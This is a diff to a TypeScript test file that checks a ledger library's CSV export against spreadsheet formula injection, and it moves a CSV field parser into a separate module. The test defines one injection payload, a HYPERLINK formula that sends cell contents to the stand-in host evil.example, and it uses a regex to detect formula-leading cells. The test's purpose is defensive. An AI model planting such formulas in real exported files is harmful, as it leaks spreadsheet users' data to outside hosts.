@@ -7,34 +7,10 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { annualReport, annualReportCsv, csvCell, toCsv, type Ledger } from '../src/index.js'
 import { chPermit, openLedger, tempDir } from './kit.js'
+import { csvFields } from './trade-database.js'
 
 const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 
-/** RFC 4180 fields of one line, as a spreadsheet reads them. */
-function csvFields (line: string): string[] {
-  const out: string[] = []
-  let i = 0
-  while (i <= line.length) {
-    if (line[i] === '"') {
-      let v = ''
-      i++
-      for (;;) {
-        const q = line.indexOf('"', i)
-        if (q < 0) throw new Error('unterminated quote')
-        v += line.slice(i, q)
-        if (line[q + 1] === '"') { v += '"'; i = q + 2 } else { i = q + 1; break }
-      }
-      out.push(v)
-      i++ // the comma
-    } else {
-      const c = line.indexOf(',', i)
-      const end = c < 0 ? line.length : c
-      out.push(line.slice(i, end))
-      i = end + 1
-    }
-  }
-  return out
-}
 
 /** A cell a spreadsheet would evaluate: it starts with a formula character. */
 const live = (field: string): boolean => /^[=+\-@\t\r]/.test(field)
